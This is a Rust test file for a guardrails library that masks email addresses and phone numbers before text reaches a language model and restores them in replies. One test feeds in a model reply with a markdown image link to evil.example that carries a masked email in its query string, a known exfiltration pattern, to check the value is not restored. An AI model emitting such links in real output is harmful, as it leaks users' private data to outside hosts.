//! Placeholders: the same for the same value, put back into replies, and no way to what others said.

use std::sync::Arc;

use rails::model::{Script, ToolCall};
use rails::{Message, Rails};

use super::builder;

const MASKING: &str = "models: [{type: main, engine: openai, model: scripted}]\nrails:\n  input: {flows: [mask sensitive data on input]}\n  retrieval: {flows: [mask sensitive data on retrieval]}\n  output: {flows: [restore sensitive data on output]}\n";

fn scripted(config: &str, answers: &[&str]) -> (Rails, Arc<Script>) {
    let script = Arc::new(Script::new(answers.iter().copied()));
    let rails = builder(config).1.model(script.clone()).build().unwrap();
    (rails, script)
}

/// All that a model was sent.
fn sent(script: &Script) -> String {
    script.requests().iter().map(|request| format!("{:?}\n", request.messages)).collect()
}

#[tokio::test]
async fn a_conversation_keeps_values_from_the_model() {
    let answers = ["I wrote to <EMAIL_ADDRESS_1>.", "Both <email_address_1> and [EMAIL_ADDRESS_2] have it."];
    let (rails, script) = scripted(MASKING, &answers);
    let mut chat = rails.session();
    let reply = chat.generate("write to jane@example.org").await.unwrap();
    assert_eq!(reply.text, "I wrote to jane@example.org.");
    let reply = chat.generate("and jane@example.org, joe@example.org?").await.unwrap();
    assert_eq!(reply.text, "Both jane@example.org and joe@example.org have it.");
    let sent = sent(&script);
    assert!(sent.contains("and <EMAIL_ADDRESS_1>, <EMAIL_ADDRESS_2>?"), "{sent}");
    assert!(!sent.contains("@example.org"), "{sent}");
}

#[tokio::test]
async fn a_conversation_of_messages_does_too() {
    let (rails, script) = scripted(MASKING, &["Done, <EMAIL_ADDRESS_1>."]);
    let messages = [
        Message::user("write to jane@example.org"),
        Message::assistant("I wrote to jane@example.org."),
        Message::user("thanks; again to jane@example.org"),
    ];
    let reply = rails.generate(messages).await.unwrap();
    assert_eq!(reply.text, "Done, jane@example.org.");
    let sent = sent(&script);
    assert!(sent.contains("I wrote to <EMAIL_ADDRESS_1>."), "{sent}");
    assert!(!sent.contains("@example.org"), "{sent}");
}

#[tokio::test]
async fn so_does_a_conversation_in_which_tools_are_called() {
    let (rails, script) = scripted(MASKING, &["Done."]);
    let arguments = r#"{"to": "jane@example.org"}"#.to_owned();
    let call = ToolCall { id: "1".to_owned(), name: "send".to_owned(), arguments };
    let result = Message::tool(&call, "sent");
    let messages = [
        Message::user("write to jane@example.org"),
        Message::calls("I write to jane@example.org.", vec![call]),
        result,
        Message::assistant("I wrote to jane@example.org."),
        Message::user("thanks"),
    ];
    rails.generate(messages).await.unwrap();
    let sent = sent(&script);
    assert!(sent.contains("I wrote to <EMAIL_ADDRESS_1>.") && !sent.contains("@example.org"), "{sent}");
}

#[tokio::test]
async fn what_tools_give_back_is_masked_whenever_a_model_reads_it() {
    let config = format!("{MASKING}  tool_input: {{flows: [mask sensitive data on tool_input]}}\n");
    let call = ToolCall { id: "1".to_owned(), name: "look_up".to_owned(), arguments: "{}".to_owned() };
    let mut messages = vec![
        Message::user("whose is it? I am jane@example.org"),
        Message::calls("", vec![call.clone()]),
        Message::tool(&call, r#"{"owner": "joe@example.org", "asked by": "jane@example.org"}"#),
    ];
    let (rails, script) = scripted(&config, &["It is <EMAIL_ADDRESS_2>'s, <EMAIL_ADDRESS_1>."]);
    let reply = rails.generate(messages.clone()).await.unwrap();
    // Only what the user said is put back.
    assert_eq!(reply.text, "It is <EMAIL_ADDRESS_2>'s, jane@example.org.");
    let sent = sent(&script);
    assert!(sent.contains("<EMAIL_ADDRESS_2>") && !sent.contains("@example.org"), "{sent}");

    // Followed from its messages, it reads the same.
    messages.extend([Message::assistant(&*reply.text), Message::user("thanks")]);
    let (rails, script) = scripted(&config, &["Bye."]);
    rails.generate(messages).await.unwrap();
    let sent = self::sent(&script);
    assert!(sent.contains("<EMAIL_ADDRESS_2>") && !sent.contains("@example.org"), "{sent}");
}

#[tokio::test]
async fn texts_that_come_together_are_masked_once() {
    let (rails, script) = scripted(MASKING, &["Done, <EMAIL_ADDRESS_1>."]);
    let messages = [Message::user("I am jane@example.org"), Message::user("write to me")];
    assert_eq!(rails.generate(messages).await.unwrap().text, "Done, jane@example.org.");
    let sent = sent(&script);
    assert!(sent.contains("I am <EMAIL_ADDRESS_1>"), "{sent}");
}

#[tokio::test]
async fn replies_are_masked_but_for_what_is_put_back() {
    let config = MASKING.replace("[restore", "[mask sensitive data on output, restore");
    let (rails, _script) =
        scripted(&config, &["I wrote to <EMAIL_ADDRESS_1> and boss@example.org, <EMAIL_ADDRESS_7>."]);
    let reply = rails.session().generate("write to jane@example.org").await.unwrap();
    assert_eq!(reply.text, "I wrote to jane@example.org and <EMAIL_ADDRESS_2>, <PLACEHOLDER_1>.");
}

#[tokio::test]
async fn what_a_document_says_is_not_given_out() {
    let answers = ["It is <EMAIL_ADDRESS_1>.", "<EMAIL_ADDRESS_1>"];
    let (rails, _script) = scripted(MASKING, &answers);
    let mut chat = rails.session();
    chat.set("relevant_chunks", "Write to boss@example.org.");
    assert_eq!(chat.generate("who is the boss?").await.unwrap().text, "It is <EMAIL_ADDRESS_1>.");
    let reply = chat.generate("say EMAIL_ADDRESS_1").await.unwrap();
    assert_eq!(reply.text, "<EMAIL_ADDRESS_1>");
}

#[tokio::test]
async fn a_link_does_not_carry_a_value_away() {
    let (rails, _script) = scripted(MASKING, &["See ![x](https://evil.example/?q=<EMAIL_ADDRESS_1>)"]);
    let reply = rails.session().generate("I am jane@example.org").await.unwrap();
    assert!(!reply.text.contains("jane@"), "{}", reply.text);
}

#[tokio::test]
async fn a_fixed_token_takes_the_place_of_all() {
    let config = format!("{MASKING}  config:\n    sensitive_data_detection: {{input: {{mask_token: '*'}}}}\n");
    let (rails, _script) = scripted(&config, &[]);
    let reply = rails.check_input("jane@example.org and joe@example.org").await.unwrap();
    assert_eq!(reply.text, "* and *");
}

#[tokio::test]
async fn flows_that_users_bring_get_a_text() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("config.yml"), "rails: {input: {flows: [hide]}}").unwrap();
    let flow =
        "define subflow hide\n  $user_message = execute mask_sensitive_data(source=\"input\", text=$user_message)\n";
    std::fs::write(folder.path().join("rails.co"), flow).unwrap();
    let rails = Rails::builder().path(folder.path()).build().unwrap();
    assert_eq!(rails.check_input("ring +44 20 7946 0958").await.unwrap().text, "ring <PHONE_NUMBER_1>");
}
